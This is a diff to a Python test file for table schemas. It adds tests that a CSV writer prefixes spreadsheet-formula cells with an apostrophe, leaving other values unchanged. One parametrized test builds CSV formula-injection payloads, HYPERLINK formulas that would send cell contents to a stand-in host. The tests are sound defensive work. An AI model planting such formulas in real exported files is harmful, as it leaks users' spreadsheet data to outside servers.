@@ -1,4 +1,6 @@
-"""Tables: exactly the declared columns, in their order and of their types."""
+"""Tables: exactly the declared columns, in their order and of their types; CSV that no spreadsheet executes."""
+
+from io import BytesIO
 
 import numpy as np
 import pandas as pd
@@ -6,7 +8,7 @@ import pyarrow as pa
 import pytest
 
 from schemas import catalog, iterations, manifest, scores
-from schemas.tables import Column, arrow_schema, reference, to_arrow
+from schemas.tables import Column, arrow_schema, csv_for_people, reference, to_arrow
 
 COLUMNS = (
     Column("name", pa.string(), "what it is called"),
@@ -107,3 +109,27 @@ CONTRACT = {
 def test_published_tables_have_the_columns_of_the_contract_in_order(table: str, columns: tuple[Column, ...]) -> None:
     promised = CONTRACT[table].split()
     assert [column.name for column in columns if column.name in promised] == promised
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
+def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(start: str) -> None:
+    text = f'{start}HYPERLINK("http://host/?"&A1,"x")'
+    for dtype in ("object", "category", "string"):
+        written = csv_for_people(pd.DataFrame({"group": pd.Series([text, "line -1 = 2"], dtype=dtype)}))
+        assert pd.read_csv(BytesIO(written), lineterminator="\n")["group"].tolist() == [f"'{text}", "line -1 = 2"]
+
+
+def test_all_else_is_written_as_it_is() -> None:
+    frame = pd.DataFrame(
+        {
+            "image_path": ["/archive/=a.png", "s3://bucket/-b.png", None],
+            "name": ["a=b", "'quoted'", ""],
+            "loss": [-1.5, np.nan, -np.inf],
+            "count": pd.array([-1, None, 2], dtype="Int64"),
+            "flag": [True, False, True],
+        }
+    )
+    before = frame.copy(deep=True)
+    assert csv_for_people(frame) == frame.to_csv(index=False).encode()
+    pd.testing.assert_frame_equal(frame, before)
+    assert csv_for_people(frame.iloc[:0]) == b"image_path,name,loss,count,flag\n"
